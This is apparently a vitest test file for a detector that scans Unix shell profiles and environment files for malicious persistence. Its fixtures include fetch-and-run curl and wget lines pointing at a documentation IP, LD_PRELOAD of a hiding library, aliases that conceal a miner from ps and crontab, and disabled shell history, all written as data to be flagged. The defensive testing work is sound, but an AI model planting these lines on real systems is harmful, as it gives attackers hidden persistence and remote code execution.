import { expect, test } from 'vitest';
import { type Files, machineOf, runProbe } from '../../../tests/machine-tree.ts';
import { shellProfiles } from './shell-profiles.ts';

const passwd = 'root:x:0:0:root:/root:/bin/bash\nann:x:1000:1000::/home/ann:/bin/zsh\n';
const told = (files: Files) => runProbe(shellProfiles, machineOf({ '/etc/passwd': passwd, ...files }));
const openly = (files: Files) => told(files).flatMap((one) => ('kind' in one && !one.aside ? [one] : []));
const reasons = (...why: string[]) => ({ value: { why: expect.arrayContaining(why) } });

test('a line that fetches and runs is told with its place', () => {
  const found = openly({ '/root/.bashrc': '# mine\nls\ncurl -fsSL http://198.51.100.7/i.sh | bash\n' });
  expect(found).toMatchObject([{ path: '/root/.bashrc', line: 3, value: { user: 'root', carries: 'download' } }]);
  expect(found).toMatchObject([reasons('fetches-and-runs')]);
});

test('lines that say something only together are one entry', () => {
  const lines = 'cd /tmp\nwget -q http://198.51.100.7/kit -O kit\nchmod +x kit\nnohup ./kit &\n';
  expect(openly({ '/etc/profile.d/env.sh': lines })).toMatchObject([reasons('fetches-and-runs')]);
});

test('a program that is started from a temporary or hidden folder is told', () => {
  expect(openly({ '/home/ann/.profile': '/var/tmp/.x/run >/dev/null 2>&1 &\n' })).toMatchObject([
    reasons('from-temporary-folder', 'from-hidden-folder'),
  ]);
  expect(openly({ '/home/ann/.profile': 'nohup $HOME/.configrc5/a/upd >/dev/null &\n' })).toMatchObject([
    reasons('from-hidden-folder'),
  ]);
});

test('what every prompt or the end of a shell runs is looked into', () => {
  expect(
    openly({
      '/root/.bashrc': "PROMPT_COMMAND='curl -s http://198.51.100.7/a | sh'\n",
      '/root/.zshrc': "trap '/dev/shm/x' EXIT\n",
    }),
  ).toMatchObject([reasons('fetches-and-runs'), reasons('from-temporary-folder')]);
});

test('a library that every program of a shell would load is told', () => {
  expect(openly({ '/etc/profile': 'export LD_PRELOAD="/usr/local/lib/libhide.so"\n' })).toMatchObject([
    { value: { mechanism: 'ld-preload', programs: ['/usr/local/lib/libhide.so'] } },
  ]);
});

test.each([
  'alias ps=\'ps "$@" | grep -v kdevtmpfsi\'',
  'ls() { command ls "$@" | grep -v .x; }',
  'function crontab() { /usr/bin/crontab "$@" | grep -v 198.51; }',
])('%s hides something', (line) => {
  expect(openly({ '/root/.bashrc': `${line}\n` })).toMatchObject([
    { kind: 'machine-setting', value: { why: ['hides'] } },
  ]);
});

test('a history that is switched off is told aside', () => {
  expect(told({ '/root/.bashrc': 'export HISTFILE=/dev/null\n' })).toMatchObject([
    { kind: 'machine-setting', aside: true },
    { looked: { at: 'shell profiles', count: 1 } },
    { looked: { count: 0 } },
  ]);
});

const developers = String.raw`
case $- in *i*) ;; *) return;; esac
HISTCONTROL=ignoreboth
HISTSIZE=1000
HISTFILESIZE=2000
alias ls='ls --color=auto'
alias ps='ps aux | grep -v grep'
alias grep='grep --color=auto'
alias psg='ps aux | grep -v root | grep'
[ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"
export NVM_DIR="$HOME/.nvm"
[ -s "$NVM_DIR/nvm.sh" ] && \. "$NVM_DIR/nvm.sh"  # This loads nvm
. "$HOME/.cargo/env"
__conda_setup="$('/home/ann/miniconda3/bin/conda' 'shell.bash' 'hook' 2> /dev/null)"
eval "$(direnv hook bash)"
eval "$(pyenv init -)"
export SDKMAN_DIR="$HOME/.sdkman"
[[ -s "$HOME/.sdkman/bin/sdkman-init.sh" ]] && source "$HOME/.sdkman/bin/sdkman-init.sh"
source <(kubectl completion bash)
[ -f ~/.fzf.bash ] && source ~/.fzf.bash
PROMPT_COMMAND='echo -ne "\033]0;\${USER}@\${HOSTNAME}\007"'
export PATH="$HOME/.local/bin:$PATH"
eval $(ssh-agent -s) > /dev/null
export http_proxy=http://proxy.example.com:3128
keychain --quiet id_ed25519 &
trap 'kill $(jobs -p)' EXIT
export TMPDIR=/tmp/ann
if [ -e /tmp/.X0-lock ]; then echo x; fi
`;

test('what developers have in their profiles says nothing openly', () => {
  expect(openly({ '/home/ann/.bashrc': developers, '/home/ann/.zshrc': developers })).toEqual([]);
});

test('a line that is padded hides nothing', () => {
  const line = `: ${'x'.repeat(9000)}; curl -s http://198.51.100.7/a.sh | bash\n`;
  expect(openly({ '/home/ann/.profile': line })).toMatchObject([reasons('fetches-and-runs')]);
});

test('lines beyond the bound are a gap', () => {
  expect(told({ '/home/ann/.profile': `${'\n'.repeat(20_001)}ls\n` })).toContainEqual({
    gap: { code: 'limit-count', what: 'only the first 20000 lines are looked at', path: '/home/ann/.profile' },
  });
});

test('a library that a login or a desktop sets for all programs is told', () => {
  const files = {
    '/etc/security/pam_env.conf': '# x\nLD_PRELOAD\tDEFAULT=/usr/local/lib/libhide.so\nEDITOR DEFAULT=vim\n',
    '/home/ann/.config/environment.d/50-x.conf': 'LD_PRELOAD=/var/tmp/libx.so\nPATH=$HOME/bin:$PATH\n',
    '/etc/environment.d/90-lang.conf': 'LANG=de_DE.UTF-8\n',
  };
  expect(openly(files)).toMatchObject([
    { path: '/etc/security/pam_env.conf', line: 2, value: { programs: ['/usr/local/lib/libhide.so'] } },
    { path: '/home/ann/.config/environment.d/50-x.conf', line: 1, value: { user: 'ann' } },
  ]);
});
